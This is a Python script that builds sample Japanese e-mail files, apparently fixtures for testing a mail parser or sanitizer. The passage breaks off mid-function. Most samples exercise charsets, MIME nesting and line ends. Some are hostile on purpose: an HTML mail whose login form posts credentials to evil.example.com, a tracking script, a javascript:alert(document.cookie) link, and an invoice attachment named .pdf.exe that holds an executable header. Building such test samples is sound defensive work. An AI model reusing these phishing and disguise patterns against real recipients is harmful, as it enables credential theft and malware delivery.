#!/usr/bin/env python3
"""Regenerate the sample e-mail messages in samples/.

Run from the repository root (or anywhere):

    python3 samples/make_samples.py

Every sample is written as samples/NAME.eml.  The output is fully
deterministic (fixed dates, fixed Message-IDs, no dependence on the clock
or on zlib/locale), so re-running the script reproduces the files
byte-for-byte.  What each sample exercises is described in
samples/README.md.  Only the Python 3 standard library is used.

All messages are built internally with "\\n" line ends and converted to
CRLF when written, except the crlf-* samples which deliberately use LF-only,
CR-only or mixed line ends, and not-a-message.eml which is raw binary.
"""

import base64
import datetime
import email.utils
import quopri
import random
import urllib.parse
from pathlib import Path

OUT_DIR = Path(__file__).resolve().parent
JST = datetime.timezone(datetime.timedelta(hours=9))

# A valid 1x1 white RGBA PNG, embedded literally so the bytes never depend on
# the local zlib build.
PNG_1X1 = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAAC0lEQVR42mP4DwQACfsD"
    "/Wj6HMwAAAAASUVORK5CYII="
)

# JIS X 0208 code points of NEC row 13 / NEC-selected IBM extension
# characters (as used by CP50220 / ISO-2022-JP-MS), which the plain
# 'iso2022_jp' codec cannot encode.
JIS_EXT = {
    "\u2460": b"\x2d\x21",  # ① CIRCLED DIGIT ONE (NEC row 13)
    "\u2461": b"\x2d\x22",  # ② CIRCLED DIGIT TWO (NEC row 13)
    "\u3231": b"\x2d\x6a",  # ㈱ PARENTHESIZED IDEOGRAPH STOCK (NEC row 13)
    "\u9ad9": b"\x7c\x62",  # 髙 (NEC-selected IBM extension, row 92)
}

ESC_JIS = b"\x1b$B"
ESC_ASCII = b"\x1b(B"


# ---------------------------------------------------------------------------
# helpers
# ---------------------------------------------------------------------------

def b(s):
    """str -> ASCII bytes (raises on accidental non-ASCII); bytes pass through."""
    if isinstance(s, bytes):
        return s
    return s.encode("ascii")


def date(day, hour, minute, second=0):
    return email.utils.format_datetime(
        datetime.datetime(2026, 11, day, hour, minute, second, tzinfo=JST))


def msgid(name):
    return "<%s.20261101@mail.example.com>" % name


def ew(text, charset="UTF-8", codec=None, enc="B", maxlen=60):
    """RFC 2047 encode text, splitting on character boundaries so that each
    encoded word stays short; words are folded onto continuation lines."""
    codec = codec or charset

    def one(chunk):
        raw = chunk.encode(codec) if isinstance(chunk, str) else chunk
        if enc == "B":
            payload = base64.b64encode(raw).decode("ascii")
        else:
            payload = q_encode(raw)
        return "=?%s?%s?%s?=" % (charset, enc, payload)

    words, cur = [], ""
    for ch in text:
        if cur and len(one(cur + ch)) > maxlen:
            words.append(one(cur))
            cur = ch
        else:
            cur += ch
    words.append(one(cur))
    return "\n ".join(words)


def q_encode(raw):
    """Conservative RFC 2047 'Q' encoding: only letters and digits literal."""
    out = []
    for byte in raw:
        c = chr(byte)
        if c.isascii() and c.isalnum():
            out.append(c)
        elif c == " ":
            out.append("_")
        else:
            out.append("=%02X" % byte)
    return "".join(out)


def jis_ext(text):
    """Encode text as ISO-2022-JP using the 'iso2022_jp' codec for ordinary
    characters and the raw JIS pairs in JIS_EXT for the vendor extension
    characters (i.e. what CP50220 / ISO-2022-JP-MS produces).  Always returns
    to ASCII before a newline and at the end."""
    out = bytearray()
    jis_mode = False
    for ch in text:
        if ord(ch) < 0x80:
            if jis_mode:
                out += ESC_ASCII
                jis_mode = False
            out += ch.encode("ascii")
            continue
        if ch in JIS_EXT:
            pair = JIS_EXT[ch]
        else:
            enc = ch.encode("iso2022_jp")
            if not (enc.startswith(ESC_JIS) and enc.endswith(ESC_ASCII)
                    and len(enc) == 8):
                raise ValueError("not a JIS X 0208 character: %r" % ch)
            pair = enc[3:5]
        if not jis_mode:
            out += ESC_JIS
            jis_mode = True
        out += pair
    if jis_mode:
        out += ESC_ASCII
    return bytes(out)


def b64body(raw):
    return base64.encodebytes(raw)  # 76-char lines, "\n" terminated


def b64text(raw):
    """base64 for text content: encode the canonical CRLF form (RFC 2045)."""
    return b64body(raw.replace(b"\n", b"\r\n"))


def qpbody(raw):
    out = quopri.encodestring(raw)
    if not out.endswith(b"\n"):
        out += b"\n"
    return out


def text(s, codec="utf-8"):
    """Body text -> bytes, guaranteed to end with a newline."""
    if not s.endswith("\n"):
        s += "\n"
    return s.encode(codec)


def build(headers, body=b""):
    """Header lines (str or bytes, may contain '\\n ' folds) + blank line +
    body.  Used for whole messages and for MIME body parts alike."""
    return b"".join(b(h) + b"\n" for h in headers) + b"\n" + body


def multipart(boundary, parts, preamble=b"", epilogue=b""):
    out = bytearray(preamble)
    for p in parts:
        out += b"--" + b(boundary) + b"\n" + p
    out += b"--" + b(boundary) + b"--\n" + epilogue
    return bytes(out)


def top(name, subject, day, hour, minute, frm=None, to="taro@example.lg.jp",
        extra=()):
    """Standard top-level headers.  subject is an already-encoded header
    value (str or bytes)."""
    frm = frm or "%s <hanako.sato@example.com>" % ew("佐藤 花子")
    return [
        "Date: " + date(day, hour, minute),
        "From: " + frm if isinstance(frm, str) else b"From: " + frm,
        "To: " + to,
        b"Subject: " + b(subject),
        "Message-ID: " + msgid(name),
        *extra,
        "MIME-Version: 1.0",
    ]


SAMPLES = {}   # name -> (bytes, description)
ORDER = []


def sample(name, description, eol="crlf"):
    def deco(fn):
        def run():
            data = fn()
            if eol == "crlf":
                if b"\r" in data:
                    raise ValueError("%s: stray CR before EOL conversion" % name)
                data = data.replace(b"\n", b"\r\n")
            return data
        SAMPLES[name] = (run, description)
        ORDER.append(name)
        return fn
    return deco


# ---------------------------------------------------------------------------
# shared texts
# ---------------------------------------------------------------------------

BUSINESS_BODY = """\
例示市役所 情報政策課
山田 太郎 様

いつも大変お世話になっております。
株式会社サンプル商事の佐藤でございます。

さて、現在ご契約いただいております「庁内ネットワーク保守契約」につきまして、
令和8年12月31日をもちまして契約期間が満了となります。
つきましては、令和9年度の契約更新に関するお見積書を別途お送りいたしますので、
ご確認のほどよろしくお願い申し上げます。

なお、契約内容に変更のご希望がございましたら、
11月20日(金)までにご連絡いただけますと幸いです。

引き続き何卒よろしくお願い申し上げます。

--
株式会社サンプル商事 営業部
佐藤 花子
〒100-0001 東京都千代田区千代田1-1-1
TEL: 03-1234-5678
E-mail: hanako.sato@example.com
"""

BUSINESS_SUBJECT = "【ご案内】保守契約の更新について"

SHORT_BODY = """\
山田様

お世話になっております。
先日の打合せでご依頼いただいた資料を送付いたします。
ご査収のほどよろしくお願いいたします。

鈴木 一郎
"""

# Contains ① ㈱ 髙 (vendor extensions) in addition to ordinary kanji/kana.
EXT_BODY = """\
例示市役所 総務課 御中

いつもお世話になっております。
㈱サンプル工業の髙橋でございます。

本日の議題は以下のとおりです。
① 来年度予算の確認
② 庁舎設備の点検日程

よろしくお願いいたします。
髙橋 健
"""

EXT_BODY_JIS = """\
例示市役所 総務課 御中

いつもお世話になっております。
株式会社サンプル工業の髙橋でございます。

本日の議題は以下のとおりです。
① 来年度予算の確認
㈱サンプル工業 髙橋 健
"""


def plain_message(name, subject, body_bytes, ctype, cte, day, hour, minute,
                  frm=None, extra=()):
    headers = top(name, subject, day, hour, minute, frm=frm, extra=extra)
    headers += ["Content-Type: " + ctype, "Content-Transfer-Encoding: " + cte]
    return build(headers, body_bytes)


# ---------------------------------------------------------------------------
# samples
# ---------------------------------------------------------------------------

@sample("plain-utf8", "text/plain; charset=utf-8, 8bit Japanese business mail; RFC 2047 B/UTF-8 Subject and From display name")
def _():
    return plain_message("plain-utf8", ew(BUSINESS_SUBJECT), text(BUSINESS_BODY),
                         "text/plain; charset=utf-8", "8bit", 2, 9, 15)


@sample("plain-iso2022jp", "text/plain; charset=ISO-2022-JP, 7bit body and B-encoded ISO-2022-JP Subject (the classic Japanese mail form)")
def _():
    return plain_message(
        "plain-iso2022jp", ew("資料送付のお知らせ", "ISO-2022-JP", "iso2022_jp"),
        text(SHORT_BODY, "iso2022_jp"),
        "text/plain; charset=ISO-2022-JP", "7bit", 2, 10, 0,
        frm="%s <ichiro.suzuki@example.jp>" % ew("鈴木 一郎", "ISO-2022-JP", "iso2022_jp"))


@sample("plain-iso2022jp-ext", "charset=ISO-2022-JP but body uses NEC row 13 / IBM extension JIS codes (① 0x2D21, ㈱ 0x2D6A, 髙 0x7C62); decoder must treat it as CP50220-compatible")
def _():
    return plain_message(
        "plain-iso2022jp-ext", ew("議題のご案内", "ISO-2022-JP", "iso2022_jp"),
        jis_ext(EXT_BODY_JIS), "text/plain; charset=ISO-2022-JP", "7bit",
        2, 10, 30)


@sample("plain-cp50220", "charset label CP50220 with extension characters in the body; Subject encoded-word labelled ISO-2022-JP-MS containing ①")
def _():
    subject = "=?ISO-2022-JP-MS?B?%s?=" % base64.b64encode(
        jis_ext("①議題のご案内")).decode("ascii")
    return plain_message(
        "plain-cp50220", subject, jis_ext(EXT_BODY),
        "text/plain; charset=CP50220", "7bit", 2, 10, 45)


@sample("plain-shiftjis", "charset=Shift_JIS, 8bit body encoded as CP932 including ① ㈱ 髙 (label Shift_JIS must be decoded as CP932); B-encoded Shift_JIS Subject")
def _():
    return plain_message(
        "plain-shiftjis", ew("①議題のご案内", "Shift_JIS", "cp932"),
        text(EXT_BODY, "cp932"), "text/plain; charset=Shift_JIS", "8bit",
        2, 11, 0)


@sample("plain-cp932-label", "charset=CP932 label with base64 transfer encoding; body includes ① ㈱ 髙 and full-width tilde")
def _():
    body = EXT_BODY + "受付時間: 9時～17時\n"
    return plain_message(
        "plain-cp932-label", ew("髙橋より", "CP932", "cp932"),
        b64text(text(body, "cp932")), "text/plain; charset=CP932", "base64",
        2, 11, 20)


@sample("plain-eucjp", "charset=EUC-JP with quoted-printable transfer encoding; B-encoded EUC-JP Subject")
def _():
    return plain_message(
        "plain-eucjp", ew("会議室予約の確認", "EUC-JP", "euc_jp"),
        qpbody(text(SHORT_BODY, "euc_jp")),
        "text/plain; charset=EUC-JP", "quoted-printable", 2, 12, 0)


@sample("plain-utf7", "charset=UTF-7 Japanese body (7bit), rarely seen but must still decode")
def _():
    return plain_message(
        "plain-utf7", ew("UTF-7の試験メール"), text(SHORT_BODY, "utf-7"),
        "text/plain; charset=UTF-7", "7bit", 2, 12, 30)


@sample("mislabel-sjis-as-jis", "body bytes are CP932 (8bit) but the header claims charset=ISO-2022-JP; needs charset sniffing / fallback")
def _():
    return plain_message(
        "mislabel-sjis-as-jis", ew("文字コード誤りの試験"),
        text(SHORT_BODY, "cp932"), "text/plain; charset=ISO-2022-JP", "8bit",
        3, 9, 0)


@sample("mislabel-utf8-as-jis", "body bytes are UTF-8 (8bit) but labelled charset=ISO-2022-JP")
def _():
    return plain_message(
        "mislabel-utf8-as-jis", ew("文字コード誤りの試験その2"),
        text(SHORT_BODY), "text/plain; charset=ISO-2022-JP", "8bit",
        3, 9, 10)


@sample("nolabel-sjis", "text/plain without any charset parameter, CP932 body, and a raw (unencoded) 8-bit CP932 Subject header")
def _():
    subject = "見積書送付の件".encode("cp932")
    return plain_message(
        "nolabel-sjis", subject, text(SHORT_BODY, "cp932"),
        "text/plain", "8bit", 3, 9, 20)


@sample("unknown-charset", "charset=unknown-8bit with EUC-JP body bytes; unknown label must fall back to detection")
def _():
    return plain_message(
        "unknown-charset", ew("不明な文字コード"), text(SHORT_BODY, "euc_jp"),
        "text/plain; charset=unknown-8bit", "8bit", 3, 9, 30)


HTML_MARKETING = """\
<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="utf-8">
<title>冬の特別キャンペーンのお知らせ</title>
<style type="text/css">
body { font-family: sans-serif; color: #333; }
.banner { background: url(https://cdn.example.com/banner.png); height: 120px; }
table td { border: 1px solid #ccc; padding: 4px; }
</style>
<script type="text/javascript">
var uid = "u12345";
document.write('<img src="https://track.example.com/js.gif?u=' + uid + '">');
</script>
</head>
<body>
<div class="banner"></div>
<h1>冬の特別キャンペーン</h1>
<p>いつもご利用いただき誠にありがとうございます。</p>
<p>期間限定で、業務用ソフトウェアを<b>特別価格</b>にてご提供いたします。<br>
詳しくは下記をご覧ください。</p>
<ul>
<li>対象期間: 11月1日から12月25日まで</li>
<li>対象製品: 文書管理システム</li>
<li>お申込み: 専用フォームから</li>
</ul>
<table>
<tr><th>製品名</th><th>通常価格</th><th>特別価格</th></tr>
<tr><td>文書管理 基本版</td><td>100,000円</td><td>80,000円</td></tr>
<tr><td>文書管理 上位版</td><td>200,000円</td><td>150,000円</td></tr>
</table>
<p><a href="https://example.com/campaign?id=1">キャンペーン詳細</a></p>
<form action="https://evil.example.com/login" method="post">
<p>ログインID: <input type="text" name="user"></p>
<p>パスワード: <input type="password" name="pass"></p>
<button type="submit">ログインして申し込む</button>
</form>
<p>配信停止は<a href="https://example.com/unsubscribe?u=12345">こちら</a>。</p>
<img src="https://track.example.com/p.gif" width=1 height=1>
</body>
</html>
"""


@sample("html-only", "text/html only (no text part): title, style, script with document.write, 1x1 tracking image, credential form, list, 2x3 table, links")
def _():
    return plain_message(
        "html-only", ew("【期間限定】冬の特別キャンペーンのお知らせ"),
        text(HTML_MARKETING), "text/html; charset=utf-8", "8bit", 3, 10, 0,
        frm="%s <news@example.com>" % ew("サンプル商事 ニュース"))


ALT_TEXT = """\
山田様

お世話になっております。
11月24日(火)の打合せについて、以下のとおりご案内いたします。

日時: 11月24日(火) 14:00から15:00
場所: 例示市役所 本庁舎 3階 第2会議室
議題: 次期システム更改のスケジュール

ご不明な点がございましたらご連絡ください。

佐藤 花子
"""

ALT_HTML = """\
<html><body>
<p>山田様</p>
<p>お世話になっております。<br>
11月24日(火)の打合せについて、以下のとおりご案内いたします。</p>
<table border="1">
<tr><td>日時</td><td>11月24日(火) 14:00から15:00</td></tr>
<tr><td>場所</td><td>例示市役所 本庁舎 3階 第2会議室</td></tr>
<tr><td>議題</td><td>次期システム更改のスケジュール</td></tr>
</table>
<p>ご不明な点がございましたらご連絡ください。</p>
<p>佐藤 花子</p>
</body></html>
"""


@sample("alternative", "multipart/alternative with real text/plain and text/html versions of the same content, both quoted-printable UTF-8")
def _():
    parts = [
        build(["Content-Type: text/plain; charset=utf-8",
               "Content-Transfer-Encoding: quoted-printable"], qpbody(text(ALT_TEXT))),
        build(["Content-Type: text/html; charset=utf-8",
               "Content-Transfer-Encoding: quoted-printable"], qpbody(text(ALT_HTML))),
    ]
    headers = top("alternative", ew("打合せ日程のご案内"), 4, 9, 0)
    headers.append('Content-Type: multipart/alternative; boundary="=_alt_0001"')
    return build(headers, multipart("=_alt_0001", parts,
                                    preamble=b"This is a multi-part message in MIME format.\n"))


@sample("alternative-empty-text", "multipart/alternative whose text/plain part is only whitespace, so the HTML part has to be rendered to text")
def _():
    parts = [
        build(["Content-Type: text/plain; charset=utf-8",
               "Content-Transfer-Encoding: 7bit"], b"  \n\n\t \n"),
        build(["Content-Type: text/html; charset=utf-8",
               "Content-Transfer-Encoding: 8bit"], text(ALT_HTML)),
    ]
    headers = top("alternative-empty-text", ew("打合せ日程のご案内(再送)"), 4, 9, 30)
    headers.append('Content-Type: multipart/alternative; boundary="alt-empty-b1"')
    return build(headers, multipart("alt-empty-b1", parts))


@sample("related-inline-images", "multipart/alternative[text/plain, multipart/related[text/html referencing cid:logo, image/png (1x1, Content-ID <logo>)]]")
def _():
    html = ALT_HTML.replace(
        "<html><body>\n",
        '<html><body>\n<p><img src="cid:logo" alt="サンプル商事ロゴ" width="1" height="1"></p>\n')
    related = multipart("rel-b2", [
        build(["Content-Type: text/html; charset=utf-8",
               "Content-Transfer-Encoding: quoted-printable"], qpbody(text(html))),
        build(["Content-Type: image/png; name=\"logo.png\"",
               "Content-Transfer-Encoding: base64",
               "Content-ID: <logo>",
               'Content-Disposition: inline; filename="logo.png"'], b64body(PNG_1X1)),
    ])
    alt = multipart("alt-b1", [
        build(["Content-Type: text/plain; charset=utf-8",
               "Content-Transfer-Encoding: quoted-printable"], qpbody(text(ALT_TEXT))),
        build(['Content-Type: multipart/related; type="text/html";\n boundary="rel-b2"'],
              related),
    ])
    headers = top("related-inline-images", ew("打合せ日程のご案内(ロゴ付き)"), 4, 10, 0)
    headers.append('Content-Type: multipart/alternative; boundary="alt-b1"')
    return build(headers, alt)


FAKE_PDF = (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\n"
            b"endobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
            b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")
FAKE_ZIP = b"PK\x03\x04" + b"\x14\x00\x00\x00\x08\x00" + bytes(range(32)) + b"[Content_Types].xml"
FAKE_JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(48) + b"\xff\xd9"


def pct(raw):
    return urllib.parse.quote(raw, safe="")


@sample("attachments-encoded-names", "multipart/mixed with 4 base64 attachments whose Japanese names use RFC 2231 UTF-8, RFC 2231 continuations in ISO-2022-JP, RFC 2047 (B and Q, ISO-2022-JP) inside quoted params, and raw 8-bit CP932")
def _():
    name_a = pct("請求書.pdf".encode("utf-8"))
    jis_b = "見積書.xlsx".encode("iso2022_jp")   # ESC $ B 8+@Q=q ESC ( B .xlsx
    seg0, seg1 = jis_b[:7], jis_b[7:]            # split after 見積 (mid JIS run)
    name_c_b = ew("議事録.docx", "ISO-2022-JP", "iso2022_jp", "B", maxlen=200)
    name_c_q = ew("議事録.docx", "ISO-2022-JP", "iso2022_jp", "Q", maxlen=200)
    name_d = "写真.jpg".encode("cp932")
    parts = [
        build(["Content-Type: text/plain; charset=utf-8",
               "Content-Transfer-Encoding: 8bit"],
              text("山田様\n\n請求書、見積書、議事録、現場写真の4点を添付いたします。\nご確認ください。\n\n佐藤\n")),
        build(["Content-Type: application/pdf; name*=UTF-8''" + name_a,
               "Content-Transfer-Encoding: base64",
               "Content-Disposition: attachment;\n filename*=UTF-8''" + name_a],
              b64body(FAKE_PDF)),
        build(["Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
               "Content-Transfer-Encoding: base64",
               "Content-Disposition: attachment;\n filename*0*=ISO-2022-JP''" + pct(seg0)
               + ";\n filename*1*=" + pct(seg1)],
              b64body(FAKE_ZIP)),
        build(["Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document;\n"
               ' name="' + name_c_b + '"',
               "Content-Transfer-Encoding: base64",
               'Content-Disposition: attachment;\n filename="' + name_c_q + '"'],
              b64body(FAKE_ZIP)),
        build([b'Content-Type: image/jpeg; name="' + name_d + b'"',
               "Content-Transfer-Encoding: base64",
               b'Content-Disposition: attachment; filename="' + name_d + b'"'],
              b64body(FAKE_JPEG)),
    ]
    headers = top("attachments-encoded-names", ew("請求書等の送付"), 5, 9, 0)
    headers.append('Content-Type: multipart/mixed; boundary="mixed-att-0001"')
    return build(headers, multipart("mixed-att-0001", parts))


@sample("attachment-double-extension", "attachment named 請求書.pdf.exe declared application/pdf whose content is a PE executable (starts with MZ)")
def _():
    fake_pe = (b"MZ\x90\x00" + bytes(124))
    assert len(fake_pe) == 128
    fname = ew("請求書.pdf.exe", maxlen=200)
    parts = [
        build(["Content-Type: text/plain; charset=utf-8",
               "Content-Transfer-Encoding: 8bit"],
              text("ご担当者様\n\n今月分の請求書を添付いたします。\n至急ご確認ください。\n")),
        build(['Content-Type: application/pdf; name="' + fname + '"',
               "Content-Transfer-Encoding: base64",
               'Content-Disposition: attachment; filename="' + fname + '"'],
              b64body(fake_pe)),
    ]
    headers = top("attachment-double-extension", ew("【至急】請求書の送付"), 5, 9, 30,
                  frm="%s <billing@example.com>" % ew("経理部"))
    headers.append('Content-Type: multipart/mixed; boundary="dbl-ext-b"')
    return build(headers, multipart("dbl-ext-b", parts))


def inner_original():
    """A Japanese mail (ISO-2022-JP headers) with a text part and a CSV."""
    csv = "氏名,所属\n山田 太郎,情報政策課\n鈴木 一郎,総務課\n".encode("cp932")
    parts = [
        build(["Content-Type: text/plain; charset=ISO-2022-JP",
               "Content-Transfer-Encoding: 7bit"],
              text("各位\n\n研修の参加者一覧を添付します。\n\n鈴木\n", "iso2022_jp")),
        build(['Content-Type: text/csv; charset=Shift_JIS; name="sankasha.csv"',
               "Content-Transfer-Encoding: base64",
               'Content-Disposition: attachment; filename="sankasha.csv"'],
              b64text(csv)),
    ]
    headers = [
        "Date: " + date(6, 8, 45),
        "From: %s <ichiro.suzuki@example.jp>" % ew("鈴木 一郎", "ISO-2022-JP", "iso2022_jp"),
        "To: taro@example.lg.jp",
        "Subject: " + ew("研修参加者一覧", "ISO-2022-JP", "iso2022_jp"),
        "Message-ID: " + msgid("forwarded-inner"),
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="inner-mixed-b"',
    ]
    return build(headers, multipart("inner-mixed-b", parts))


@sample("forwarded", "multipart/mixed with a short comment and a message/rfc822 part holding an ISO-2022-JP mail that itself is multipart/mixed with a CSV attachment")
def _():
    parts = [
        build(["Content-Type: text/plain; charset=utf-8",
               "Content-Transfer-Encoding: 8bit"],
              text("以下のメールを転送します。ご確認ください。\n")),
        build(["Content-Type: message/rfc822",
               'Content-Disposition: inline'], inner_original()),
    ]
    headers = top("forwarded", ew("Fwd: 研修参加者一覧"), 6, 9, 0,
                  frm="%s <jiro@example.jp>" % ew("田中 次郎"),
                  to="taro@example.lg.jp")
    headers.append('Content-Type: multipart/mixed; boundary="fwd-outer-b"')
    return build(headers, multipart("fwd-outer-b", parts))


@sample("forwarded-nested", "two levels of forwarding: message/rfc822 inside message/rfc822, innermost a plain UTF-8 text mail")
def _():
    original = build([
        "Date: " + date(6, 8, 0),
        "From: %s <ichiro.suzuki@example.jp>" % ew("鈴木 一郎"),
        "To: jiro@example.jp",
        "Subject: " + ew("防災訓練の日程"),
        "Message-ID: " + msgid("nested-original"),
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
    ], text("防災訓練は12月3日(木)10時から実施します。\n"))
    first_fwd = build([
        "Date: " + date(6, 9, 0),
        "From: %s <jiro@example.jp>" % ew("田中 次郎"),
        "To: hanako.sato@example.com",
        "Subject: " + ew("Fwd: 防災訓練の日程"),
        "Message-ID: " + msgid("nested-fwd1"),
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="nest-l2"',
    ], multipart("nest-l2", [
        build(["Content-Type: text/plain; charset=utf-8",
               "Content-Transfer-Encoding: 8bit"], text("参考までに転送します。\n")),
        build(["Content-Type: message/rfc822"], original),
    ]))
    headers = top("forwarded-nested", ew("Fwd: Fwd: 防災訓練の日程"), 6, 10, 0)
    headers.append('Content-Type: multipart/mixed; boundary="nest-l1"')
    return build(headers, multipart("nest-l1", [
        build(["Content-Type: text/plain; charset=utf-8",
               "Content-Transfer-Encoding: 8bit"], text("さらに転送します。\n")),
        build(["Content-Type: message/rfc822"], first_fwd),
    ]))


@sample("digest", "multipart/digest with two parts that have no Content-Type header (default type is message/rfc822)")
def _():
    def member(n, subj, body):
        return build([
            "Date: " + date(7, 8, n),
            "From: %s <list-member%d@example.jp>" % (ew("会員%d" % n), n),
            "To: kenkyukai@example.jp",
            "Subject: " + ew(subj),
            "Message-ID: " + msgid("digest-member%d" % n),
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: 8bit",
        ], text(body))
    # Each digest part: empty part header block, then the message itself.
    parts = [
        b"\n" + member(1, "次回研究会について", "次回は12月に開催予定です。\n"),
        b"\n" + member(2, "Re: 次回研究会について", "了解しました。参加します。\n"),
    ]
    headers = top("digest", ew("研究会メーリングリスト ダイジェスト 第12号"), 7, 9, 0,
                  frm="kenkyukai-digest@example.jp")
    headers.append('Content-Type: multipart/digest; boundary="digest-b"')
    return build(headers, multipart("digest-b", parts,
                                    preamble=b"Digest of kenkyukai@example.jp\n"))


@sample("bounce", "multipart/report; report-type=delivery-status: human-readable text/plain (English/Japanese), message/delivery-status, text/rfc822-headers")
def _():
    human = """\
This is the mail system at host mx.example.jp.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

申し訳ありませんが、以下の宛先にメールを配送できませんでした。

<nobody@example.jp>: host mx2.example.jp[192.0.2.25] said: 550 5.1.1
    <nobody@example.jp>: Recipient address rejected: User unknown
"""
    status = """\
Reporting-MTA: dns; mx.example.jp
X-Postfix-Queue-ID: 4AB12C3D45
Arrival-Date: Mon,  9 Nov 2026 09:00:01 +0900 (JST)

Final-Recipient: rfc822; nobody@example.jp
Original-Recipient: rfc822;nobody@example.jp
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx2.example.jp
Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.jp>: Recipient address
    rejected: User unknown
"""
    orig_headers = "\n".join([
        "Return-Path: <taro@example.lg.jp>",
        "Received: from lgwan-gw.example.lg.jp (lgwan-gw.example.lg.jp [192.0.2.10])",
        "\tby mx.example.jp (Postfix) with ESMTP id 4AB12C3D45",
        "\tfor <nobody@example.jp>; Mon,  9 Nov 2026 09:00:01 +0900 (JST)",
        "Date: " + date(9, 8, 59),
        "From: taro@example.lg.jp",
        "To: nobody@example.jp",
        "Subject: " + ew("照会への回答"),
        "Message-ID: " + msgid("bounce-original"),
    ]) + "\n"
    parts = [
        build(["Content-Description: Notification",
               "Content-Type: text/plain; charset=utf-8",
               "Content-Transfer-Encoding: 8bit"], text(human)),
        build(["Content-Description: Delivery report",
               "Content-Type: message/delivery-status"], b(status)),
        build(["Content-Description: Undelivered Message Headers",
               "Content-Type: text/rfc822-headers"], b(orig_headers)),
    ]
    headers = top("bounce", "Undelivered Mail Returned to Sender", 9, 9, 2,
                  frm="MAILER-DAEMON@example.jp (Mail Delivery System)")
    headers.append("Auto-Submitted: auto-replied")
    headers.append('Content-Type: multipart/report; report-type=delivery-status;\n'
                   ' boundary="4AB12C3D45.1794182402/mx.example.jp"')
    return build(headers, multipart("4AB12C3D45.1794182402/mx.example.jp", parts))


def crlf_base(name):
    return plain_message(name, ew(BUSINESS_SUBJECT), text(BUSINESS_BODY),
                         "text/plain; charset=utf-8", "8bit", 10, 9, 0)


@sample("crlf-lf", "plain-utf8 content with bare LF line ends throughout (header and body)", eol="raw")
def _():
    return crlf_base("crlf-lf")


@sample("crlf-cr", "plain-utf8 content with bare CR line ends throughout", eol="raw")
def _():
    return crlf_base("crlf-cr").replace(b"\n", b"\r")


@sample("crlf-mixed", "plain-utf8 content with mixed line ends: every third line LF-only, the rest CRLF", eol="raw")
def _():
    lines = crlf_base("crlf-mixed").split(b"\n")
    out = bytearray()
    for i, line in enumerate(lines[:-1]):
        out += line + (b"\n" if i % 3 == 2 else b"\r\n")
    out += lines[-1]
    return bytes(out)


LINKS_BODY = """\
山田様

関連リンクをお送りします。

1. 通常のURL: http://example.com/index.html
2. SSL: https://www.example.co.jp/path/to/page?a=1&b=2#section
3. FTP: ftp://ftp.example.jp/pub/file.zip
4. スキームなし: www.example.co.jp/news
5. メール: mailto:taro@example.jp
6. 電話: tel:03-1234-5678
7. 日本語が直後に続く: https://example.com/infoをご覧ください。
8. 括弧の中: (https://example.com/paren) と (参考: http://example.jp/a_(b))
9. 危険なリンク: javascript:alert(document.cookie)
10. 無害化済み: hxxps://example[.]com/malware
11. 山括弧: <https://example.com/angle>
12. 全角括弧: （https://example.jp/zenkaku）

以上です。
"""


@sample("links", "text/plain containing many link forms: http/https/ftp, bare www., mailto:, tel:, URL followed by Japanese, parenthesised URLs, javascript:, already-defanged hxxps")
def _():
    return plain_message("links", ew("関連リンクのご案内"), text(LINKS_BODY),
                         "text/plain; charset=utf-8", "8bit", 11, 9, 0)


@sample("subject-split-multibyte", "Subject of two UTF-8 B encoded-words split inside a multibyte character (bytes must be joined before decoding), folded on two lines")
def _():
    raw = "日本語の件名です".encode("utf-8")
    w1 = base64.b64encode(raw[:4]).decode("ascii")
    w2 = base64.b64encode(raw[4:]).decode("ascii")
    subject = "=?UTF-8?B?%s?=\n =?UTF-8?B?%s?=" % (w1, w2)
    return plain_message("subject-split-multibyte", subject,
                         text("件名の分割テストです。\n"),
                         "text/plain; charset=utf-8", "8bit", 11, 10, 0)


@sample("reply-with-prefix", "Subject 'Re: [外部] 打合せの件' entirely B-encoded UTF-8, with In-Reply-To and a folded three-id References header")
def _():
    ids = ["<meeting-1.20261030@mail.example.lg.jp>",
           "<meeting-2.20261031@mail.example.com>",
           "<meeting-3.20261102@mail.example.lg.jp>"]
    extra = ["In-Reply-To: " + ids[2],
             "References: " + ids[0] + "\n " + ids[1] + "\n " + ids[2]]
    body = """\
山田様

承知いたしました。当日はよろしくお願いいたします。

> 打合せは11月24日(火)14時からでお願いします。
> 山田

佐藤
"""
    return plain_message("reply-with-prefix", ew("Re: [外部] 打合せの件", maxlen=200),
                         text(body), "text/plain; charset=utf-8", "8bit",
                         11, 11, 0, extra=extra)


@sample("many-headers", "many headers to drop (3x Received, DKIM-Signature, X-Mailer, Return-Path, List-Unsubscribe URL...) plus Cc with several Japanese display names and Reply-To")
def _():
    received = [
        "Received: from mail.example.com (mail.example.com [198.51.100.7])\n"
        "\tby mx.example.lg.jp (Postfix) with ESMTPS id 7F3E21A0B\n"
        "\tfor <taro@example.lg.jp>; " + date(12, 9, 0, 5),
        "Received: from relay.example.com (relay.example.com [198.51.100.5])\n"
        "\tby mail.example.com with ESMTP id 1a2b3c4d;\n"
        "\t" + date(12, 9, 0, 3),
        "Received: from [10.0.0.23] (unknown [203.0.113.44])\n"
        "\tby relay.example.com with ESMTPSA id 9z8y7x;\n"
        "\t" + date(12, 9, 0, 1),
    ]
    cc = ",\n ".join([
        "%s <jiro@example.jp>" % ew("田中 次郎"),
        "%s <ichiro.suzuki@example.jp>" % ew("鈴木 一郎"),
